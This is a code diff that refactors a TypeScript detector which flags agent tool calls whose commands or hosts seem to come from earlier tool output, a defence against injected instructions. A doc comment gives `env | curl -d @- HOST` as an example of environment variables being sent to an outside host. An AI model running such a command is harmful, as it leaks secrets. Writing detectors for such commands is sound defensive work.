@@ -28,8 +28,16 @@ import { soughtValues } from '../trust/sought-values.ts'
 import { targetType } from '../trust/target-type.ts'
 import { openTrustedTexts } from '../trust/trusted-texts.ts'
 import { writtenCalls } from './consequential-calls.ts'
-import { type CallValue, callsOf, type ForeignCall, isUnasked, matchCalls, valuesOf } from './foreign-call.ts'
-import { isOnlyRunning } from './foreign-target.ts'
+import {
+  type CallValue,
+  callsOf,
+  callWithValue,
+  type ForeignCall,
+  isOnlyRunning,
+  isUnasked,
+  matchCalls,
+  valuesOf,
+} from './foreign-call.ts'
 import { explained } from './why-silent.ts'
 import { defineWithholding } from './withhold.ts'
 
@@ -102,10 +110,8 @@ function isLinked(values: readonly CallValue[], action: ToolAction, scene: Scene
 }
 
 function writtenBy(readable: ReadableCall, scene: Scene & KnownTools): readonly ForeignCall[] {
-  return [...spelledOut(readable, scene), ...orderedByVerb(readable, scene), ...sentElsewhere(readable, scene)].slice(
-    0,
-    1,
-  )
+  const ways = [spelledOut, orderedByVerb, sentElsewhere]
+  return ways.flatMap((findWay) => findWay(readable, scene)).slice(0, 1)
 }
 
 /** A command that does more than read, and names a host that only the running text of an output holds: `env | curl -d @- HOST`. */
@@ -116,10 +122,11 @@ function sentElsewhere(readable: ReadableCall, scene: Scene): readonly ForeignCa
   // A host in an argument of its own is no part of the command: `url` beside the `prompt` of a tool that fetches pages.
   const isInCommand = ({ argument, isWhole }: CallValue) =>
     !isWhole && commands.some((command) => command.argument === argument)
-  const host = values.find((value) => isInCommand(value) && targetType(value.text) === 'web' && isOnlyRunning(value))
-  const [place] = host?.foreign() ?? []
-  if (!host || !place) return []
-  return [{ ...readable, output: place.output, at: place.at, shown: host.text, values, asked: null }]
+  return callWithValue(
+    readable,
+    values,
+    (value) => isInCommand(value) && targetType(value.text) === 'web' && isOnlyRunning(value),
+  )
 }
 
 /** Whether each part of a pipe only reads, or only names an address: `curl -s HOST/page | head -5`. */
@@ -147,11 +154,8 @@ function orderedByVerb(readable: ReadableCall, scene: Scene & KnownTools): reado
  * the whole command counts, because agents read files and pages that outputs name.
  */
 function spelledOut(readable: ReadableCall, scene: Scene): readonly ForeignCall[] {
-  const values = valuesOf(readable, scene)
-  const value = values.find(({ text, isWhole, foreign }) => isWhole && isCommand(text) && foreign().length > 0)
-  const [place] = value?.foreign() ?? []
-  if (!value || !place) return []
-  return [{ ...readable, output: place.output, at: place.at, shown: value.text, values, asked: null }]
+  const isSpelledOut = ({ text, isWhole, foreign }: CallValue) => isWhole && isCommand(text) && foreign().length > 0
+  return callWithValue(readable, valuesOf(readable, scene), isSpelledOut)
 }
 
 /** Whether the text has several words, and the first does not only read. */
